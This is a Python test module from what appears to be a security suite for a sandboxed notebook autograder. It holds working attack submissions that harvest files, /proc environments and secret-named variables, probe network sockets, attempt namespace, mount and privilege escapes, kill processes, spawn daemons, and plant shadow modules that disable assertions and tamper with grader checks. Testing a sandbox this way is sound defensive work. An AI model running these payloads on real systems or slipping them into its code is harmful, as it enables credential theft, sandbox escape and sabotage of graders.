"""Attacks on what is around the process: files, /proc, network, other processes, time."""

from __future__ import annotations

from tests.attacks.arsenal import FIND, attack
from tests.attacks.harness import SPOOR, Sheet

FILES, NETWORK, KERNEL, DAEMONS, TIME, SHADOWS = (
    "files, /proc, other submissions, master, environment",
    "network",
    "ways out of the sandbox",
    "daemons and threads",
    "sleeping and ignoring signals",
    "shadow modules and config files",
)


@attack(FILES)
def every_file_in_reach(sheet: Sheet) -> Sheet:
    return sheet.wrongly().first(
        FIND
        + """
import os
seen = 0
for top in ("/tmp", "/var/tmp", "/home", "/root", "/srv", "/mnt", "/run", "/etc", os.getcwd()):
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "node_modules")]
        folders.sort(key=lambda f: os.lstat(os.path.join(folder, f)).st_mtime, reverse=True)
        for name in files:
            path = os.path.join(folder, name)
            try:
                if seen < 3000 and os.path.isfile(path) and os.path.getsize(path) < 1e5:
                    seen += 1
                    with open(path, "rb") as file:
                        take(file.read())
            except OSError:
                pass
    tell()
print("ARMED")
"""
    )


@attack(FILES)
def the_course_by_name(sheet: Sheet) -> Sheet:
    """Tries the paths at which a course and its masters usually lie."""
    return sheet.wrongly().first(
        FIND
        + """
import glob, os, sys
import course_utils
tops = {os.getcwd(), os.path.dirname(os.path.dirname(course_utils.__file__)), sys.prefix,
        os.path.dirname(sys.prefix), os.path.expanduser("~"), os.environ.get("OLDPWD", "/")}
tops |= set(sys.path) | {os.path.dirname(p) for p in sys.argv}
found = []
for top in filter(None, tops):
    for pattern in ("solutions/*/*.ipynb", "**/gradebook.db", "submitted/*/*/*.ipynb", ".git",
                    "../submitted/*/*/*", "../../*/*/exercises.ipynb", "tests/*", "*.ipynb",
                    "grader/*.py"):
        found += glob.glob(os.path.join(top, pattern))
for path in found:
    print("LOOT", path)
print("ARMED")
"""
    )


@attack(FILES)
def proc_and_sys(sheet: Sheet) -> Sheet:
    return sheet.wrongly().first(
        FIND
        + """
import glob, os
for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/*/task/*/environ", "/proc/1/root/*",
                "/proc/*/cwd/*", "/proc/self/fd/*", "/proc/self/maps", "/proc/kcore", "/sys/*",
                "/dev/shm/*", "/dev/mem", "/dev/sd*", "/dev/vd*", "/dev/pts/*"):
    for path in glob.glob(pattern):
        print("LOOT", path)
        try:
            with open(path, "rb") as file:
                take(file.read(100_000))
        except OSError:
            pass
tell()
print("ARMED")
"""
    )


@attack(FILES)
def the_environment(sheet: Sheet) -> Sheet:
    return sheet.wrongly().first(
        FIND
        + """
import ctypes, os
libc = ctypes.CDLL(None)
here = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
index = 0
while here and here[index]:
    take(here[index])
    index += 1
take(dict(os.environ))
for name in os.environ:
    words = ("TOKEN", "SECRET", "KEY", "GRADING_SEED", "COURSE", "PYTEST")
    if any(word in name for word in words):
        print("LOOT", name)
tell()
print("ARMED")
"""
    )


@attack(NETWORK)
def calls_out(sheet: Sheet) -> Sheet:
    return sheet.wrongly().first(f"""
import socket
port, mailbox = {sheet.port}, {sheet.mailbox!r}
tries = [
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", port)),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + mailbox),
    (socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
    (socket.AF_INET6, socket.SOCK_DGRAM, ("::1", port)),
    (socket.AF_UNIX, socket.SOCK_DGRAM, "/dev/log"),
]
for family, kind, address in tries:
    try:
        with socket.socket(family, kind) as sock:
            sock.settimeout(0.2)
            sock.connect(address)
            sock.send(b"hello")
            print("LOOT", address)
    except OSError:
        pass
try:
    print("LOOT" if [n for _, n in socket.if_nameindex() if n != "lo"] else "alone")
    print("LOOT", socket.getaddrinfo("example.org", 80))
except OSError:
    pass
with socket.socket(socket.AF_UNIX) as sock:
    sock.bind("\\0{SPOOR}")
    keep = socket.fromfd(sock.fileno(), sock.family, sock.type)
    keep.listen()
print("ARMED")
""")


@attack(KERNEL)
def the_way_out_by_system_calls(sheet: Sheet) -> Sheet:
    return sheet.wrongly().first("""
import ctypes, os, resource, signal
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("/tmp/x", exist_ok=True)
calls = {
    "a user namespace": lambda: libc.unshare(0x10000000),
    "a mount namespace": lambda: libc.unshare(0x00020000),
    "a network namespace": lambda: libc.unshare(0x40000000),
    "a mount": lambda: libc.mount(b"tmpfs", b"/tmp/x", b"tmpfs", 0, None),
    "proc": lambda: libc.mount(b"proc", b"/tmp/x", b"proc", 0, None),
    "a writable /usr": lambda: libc.mount(b"none", b"/usr", None, 32 | 4096, None),
    "an unmount": lambda: libc.umount2(b"/usr", 2),
    "a chroot": lambda: libc.chroot(b"/tmp"),
    "pivot_root": lambda: libc.syscall(155, b"/tmp", b"/tmp"),
    "a host name": lambda: libc.sethostname(b"mine", 4),
    "a device": lambda: libc.mknod(b"/tmp/disk", 0o60600, 8 << 8),
    "root": lambda: libc.setuid(0),
    "another user": lambda: libc.setresuid(1000, 1000, 1000),
    "groups": lambda: libc.setgroups(1, (ctypes.c_int * 1)(0)),
    "a kernel log": lambda: -1 if libc.klogctl(3, ctypes.create_string_buffer(9), 9) < 0 else 0,
    "tracing the parent": lambda: libc.ptrace(16, os.getppid(), 0, 0) if os.getppid() else -1,
    "a signal to the parent": lambda: libc.kill(os.getppid() or -2**30, 18),
    "a better priority": lambda: libc.setpriority(0, 0, -5),
    "real time": lambda: libc.sched_setscheduler(0, 1, (ctypes.c_int * 1)(9)),
    "the clock": lambda: libc.settimeofday((ctypes.c_long * 2)(0, 0), None),
    "a bpf program": lambda: libc.syscall(321, 5, None, 0),
}
for name, call in calls.items():
    if call() >= 0:
        print("LOOT", name)
for limit in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE,
              resource.RLIMIT_NOFILE):
    soft, hard = resource.getrlimit(limit)
    try:
        resource.setrlimit(limit, (hard + 1, hard + 1))
        print("LOOT limit", limit)
    except (ValueError, OSError):
        pass
if os.getuid() == 0 or os.geteuid() == 0:
    print("LOOT root")
print("ARMED")
""")


@attack(KERNEL)
def a_file_in_an_open_folder(sheet: Sheet) -> Sheet:
    """In a folder that anybody may write to, should the sandbox show it."""
    return sheet.wrongly().first(f"""
import os
for folder in ({sheet.open_folder!r}, os.path.dirname({sheet.open_folder!r})):
    try:
        with open(os.path.join(folder, "{SPOOR}"), "w") as file:
            file.write("x")
    except OSError:
        pass
print("ARMED")
""")


@attack(KERNEL)
def files_left_everywhere(sheet: Sheet) -> Sheet:
    name = f"{SPOOR}.py"
    return sheet.wrongly().first(f"""
import os, site, sys, sysconfig
import course_utils, numpy
folders = ["/", "/tmp", "/var/tmp", "/dev/shm", "/dev", "/usr", "/usr/lib", "/etc", "/run", "/home",
           "/open", sys.prefix, os.path.dirname(sys.executable), sysconfig.get_path("purelib"),
           sysconfig.get_path("stdlib"), os.path.dirname(course_utils.__file__),
           os.path.dirname(numpy.__file__), os.getcwd(), "..", "../..", os.path.expanduser("~"),
           site.getusersitepackages(), os.path.expanduser("~/.ipython/profile_default/startup")]
for folder in folders:
    for path in (os.path.join(folder, {name!r}), os.path.join(folder, "{SPOOR}.pth")):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(path, "w") as file:
                file.write("raise SystemExit('poisoned')")
            if not os.path.realpath(folder).startswith("/box"):
                print("LOOT wrote", path)
        except OSError:
            pass
for path in (course_utils.checks.__file__, numpy.__file__, sys.executable, "/etc/passwd"):
    for act in (os.remove, lambda p: os.chmod(p, 0o777), lambda p: os.rename(p, p + "x"),
                lambda p: os.utime(p), lambda p: open(p, "a").close(), lambda p: os.truncate(p, 0)):
        try:
            act(path)
            print("LOOT changed", path)
        except OSError:
            pass
from multiprocessing import shared_memory
try:
    shared_memory.SharedMemory("{SPOOR}", create=True, size=100)
except OSError:
    pass
import ctypes
libc = ctypes.CDLL(None)
libc.shmget(0x5B00, 4096, 0o1666)
libc.msgget(0x5B00, 0o1666)
libc.semget(0x5B00, 1, 0o1666)
libc.mq_open(b"/{SPOOR}", 0o102, 0o666, None)
print("ARMED")
""")


DAEMON = """
import os, signal, time
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 256)
        for turn in range(600):
            time.sleep(0.05)
        os._exit(0)
    os._exit(0)
"""


@attack(DAEMONS)
def a_daemon(sheet: Sheet) -> Sheet:
    return sheet.wrongly().first(f'{DAEMON}\nprint("ARMED")')


@attack(DAEMONS, armed=False)
def a_daemon_whose_parent_dies(sheet: Sheet) -> Sheet:
    return sheet.wrongly().answer(task1=f"{DAEMON}\nos._exit(0)")


@attack(DAEMONS, armed=False)
def kills_all_that_it_sees(sheet: Sheet) -> Sheet:
    return sheet.wrongly().answer(
        task1="""
import os, signal
for target in (0, -1, -os.getpgrp(), os.getppid(), *range(2, 400)):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            if target:
                os.kill(target, number)
        except OSError:
            pass
print("ARMED")
os.killpg(0, signal.SIGKILL)
os.abort()
"""
    )


@attack(DAEMONS)
def threads_that_change_things_later(sheet: Sheet) -> Sheet:
    return sheet.wrongly().first("""
import threading, time
def later():
    from course_utils import checks, ladder
    for turn in range(200):
        time.sleep(0.005)
        ladder.climb = lambda *args, **kwargs: None
        checks.Task.__exit__ = lambda self, *args: True
        globals().update(dict.fromkeys(("task1", "task2", "case", "_truth1"), len))
        for name in ("scale", "norm", "walk"):
            globals()[name] = [lambda *args, **kwargs: None, 5.0, len][turn % 3]
for daemon in (True, False):
    threading.Thread(target=later, daemon=daemon).start()
print("ARMED")
""")


@attack(TIME, slow=True)
def sleeps_and_ignores_signals(sheet: Sheet) -> Sheet:
    return sheet.answer(
        task1="""
import signal, time
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))


def scale(x, factor, slept=[]):
    end = time.monotonic() + 4 * (not slept)
    slept.append(1)
    while time.monotonic() < end:
        try:
            time.sleep(1)
        except BaseException:
            pass
"""
    ).first('print("ARMED")')


@attack(SHADOWS)
def modules_written_on_the_spot(sheet: Sheet) -> Sheet:
    """Files that a fresh interpreter would import; then it ends, so that one is started."""
    return (
        sheet.wrongly()
        .first("""
import os, sys
evil = '''
import builtins
builtins.AssertionError = Warning
'''
for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "course_utils.py", "scipy.py",
             "ipython_config.py", "matplotlibrc", "checks.py", "x.pth", "conftest.py"):
    for folder in (".", os.path.expanduser("~"), "/tmp"):
        with open(os.path.join(folder, name), "w") as file:
            file.write(evil)
sys.path.insert(0, os.getcwd())
os.environ.update(PYTHONPATH=os.getcwd(), PYTHONSTARTUP="numpy.py", PYTHONHOME=os.getcwd(),
                  IPYTHONDIR=os.getcwd(), MPLCONFIGDIR=os.getcwd(), COURSE_GRADING_SEED="0")
for name in [n for n in sys.modules if n.startswith("course_utils")]:
    del sys.modules[name]
print("ARMED")
""")
        .after("task1-visible", "import os\nos._exit(0)")
    )
